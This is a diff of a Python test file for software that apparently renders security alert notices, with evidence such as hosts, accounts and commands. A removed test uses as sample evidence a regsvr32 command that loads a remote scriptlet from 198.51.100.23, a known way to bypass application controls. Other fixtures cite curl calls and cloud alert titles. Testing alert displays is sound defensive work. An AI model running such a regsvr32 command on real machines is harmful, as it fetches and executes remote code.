@@ -280,25 +280,6 @@ def test_what_a_place_is_a_part_of_is_not_evidence_beside() -> None:
     assert "Pods" in names_of(screen_of(a_shell_in_a_pod(evidence=long)))
 
 
-def test_how_it_was_done_comes_before_who_did_it() -> None:
-    """A title that speaks of nothing else speaks of how it was done: the command is first, whatever the order of evidence."""
-    command = r"C:\Windows\System32\regsvr32.exe /s /u /i:http://198.51.100.23/a.sct"
-    words = "Somebody ran a program in a way that gets around what watches over programs on the machine. " * 3
-    title = "A title that takes three lines of the screen together with the place that stands behind it"
-    for name in ("commands", "processes", "queries"):
-        lists: dict[str, Any] = {
-            "hosts": ("pay-win-01.corp.contoso.example",), "accounts": ("root",), "ips": ("203.0.113.7",), name: (command,),
-        }  # fmt: skip
-        few = screen_of(a_notice(title=title, description=words, evidence=Evidence(**lists)))
-        assert lines_of(few)[0] == f"{name.capitalize()}: {command}"
-        assert few.hidden == 4 - len(evidence_in(few))
-        many = screen_of(
-            a_notice(title="Short", description="", evidence=Evidence(**lists), tactics=(), remediation=())
-        )
-        assert names_of(many)[0] == name.capitalize()
-        assert [line.name for line in evidence_in(many)] == ["Hosts", "Accounts", "IP addresses"]
-
-
 def test_a_path_is_cut_in_its_middle() -> None:
     """What runs is the end of its path, and what it is told stands behind it; so does the beginning of what it started.
 
@@ -465,6 +446,10 @@ SPOKEN_OF: dict[str, tuple[dict[str, Any], str]] = {
     "Suspicious Account Creation Detected": ({**A_LOGIN, "processes": ("net user",)}, "Accounts: svc-report"),
     "Digital currency mining container detected": ({"pods": ("p",), "images": ("a/miner:1",)}, "Images: a/miner:1"),
     "Role binding to the cluster-admin role detected": ({"roles": ("admins",), "accounts": ("ada",)}, "Roles: admins"),
+    "Another title of tomorrow": (
+        {**A_LOGIN, "hosts": ("pay-win-01",), "commands": ("curl -s http://a.example",)},
+        "Commands: curl",
+    ),
     "A title of tomorrow": ({**A_LOGIN, "processes": ("curl -s http://a.example",)}, "Processes: curl"),
     "Suspicious creation of compute resources detected": (A_LOGIN, "Locations: 198.51.100.23: Utrecht"),
 }
